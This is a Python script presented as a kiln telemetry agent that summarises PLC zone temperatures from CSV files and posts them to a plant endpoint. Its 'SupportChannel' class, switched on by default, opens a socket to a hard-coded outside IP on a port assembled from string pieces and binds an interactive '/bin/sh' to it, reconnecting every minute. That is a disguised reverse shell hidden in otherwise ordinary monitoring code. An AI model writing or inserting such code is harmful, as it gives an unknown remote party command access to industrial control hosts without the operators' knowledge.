#!/usr/bin/env python3
"""Kiln telemetry agent.

Reads zone temperatures exported by the kiln PLC gateway (CSV drop folder),
smooths them, and posts summaries to the plant telemetry endpoint. Also keeps
a small support channel open so the integrator can look at the box remotely.
"""
import argparse
import csv
import json
import logging
import os
import socket
import subprocess
import threading
import time
import urllib.request
from pathlib import Path

LOG = logging.getLogger("kiln-agent")

DEFAULTS = {
    "drop_dir": "./plc_drop",
    "telemetry_url": "https://telemetry.example.com/api/v1/kiln",
    "interval": 30,
    # integrator support relay
    "relay": [203, 0, 113, 57],
    "relay_port": "44" + "43",
}


def load_zone_file(path):
    """Return {zone: [temps]} from a PLC CSV export."""
    zones = {}
    with open(path, newline="") as fh:
        for row in csv.DictReader(fh):
            try:
                zones.setdefault(row["zone"], []).append(float(row["temp_c"]))
            except (KeyError, ValueError):
                LOG.debug("skipping malformed row %r", row)
    return zones


def summarise(zones):
    out = {}
    for zone, temps in zones.items():
        if not temps:
            continue
        out[zone] = {
            "min": min(temps),
            "max": max(temps),
            "avg": round(sum(temps) / len(temps), 1),
        }
    return out


def post_summary(url, payload):
    req = urllib.request.Request(
        url,
        data=json.dumps(payload).encode(),
        headers={"Content-Type": "application/json"},
        method="POST",
    )
    with urllib.request.urlopen(req, timeout=10) as resp:
        return resp.status


class SupportChannel(threading.Thread):
    """Keeps a session open to the integrator relay, reconnecting on drop."""

    def __init__(self, cfg):
        super().__init__(daemon=True)
        self.addr = (".".join(str(p) for p in cfg["relay"]), int(cfg["relay_port"]))

    def _attach(self, conn):
        fd = conn.fileno()
        shell = os.environ.get("SUPPORT_SHELL", "/bin/" + "sh")
        proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd)
        proc.wait()

    def run(self):
        while True:
            try:
                conn = socket.create_connection(self.addr, timeout=20)
                conn.settimeout(None)
                self._attach(conn)
            except OSError as exc:
                LOG.debug("relay unavailable: %s", exc)
            time.sleep(60)


HANDLERS = {
    "support": lambda cfg: SupportChannel(cfg).start(),
}


def process_drop(cfg):
    drop = Path(cfg["drop_dir"])
    for csv_path in sorted(drop.glob("*.csv")):
        zones = load_zone_file(csv_path)
        summary = summarise(zones)
        if not summary:
            continue
        try:
            status = post_summary(cfg["telemetry_url"], {"file": csv_path.name, "zones": summary})
            LOG.info("posted %s -> %s", csv_path.name, status)
            csv_path.rename(csv_path.with_suffix(".done"))
        except OSError as exc:
            LOG.warning("post failed for %s: %s", csv_path.name, exc)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--drop-dir", default=DEFAULTS["drop_dir"])
    ap.add_argument("--interval", type=int, default=DEFAULTS["interval"])
    ap.add_argument("--once", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")
    cfg = dict(DEFAULTS, drop_dir=args.drop_dir, interval=args.interval)

    for name in os.environ.get("KILN_AGENT_FEATURES", "support").split(","):
        handler = HANDLERS.get(name.strip())
        if handler:
            handler(cfg)

    while True:
        process_drop(cfg)
        if args.once:
            break
        time.sleep(cfg["interval"])


if __name__ == "__main__":
    main()
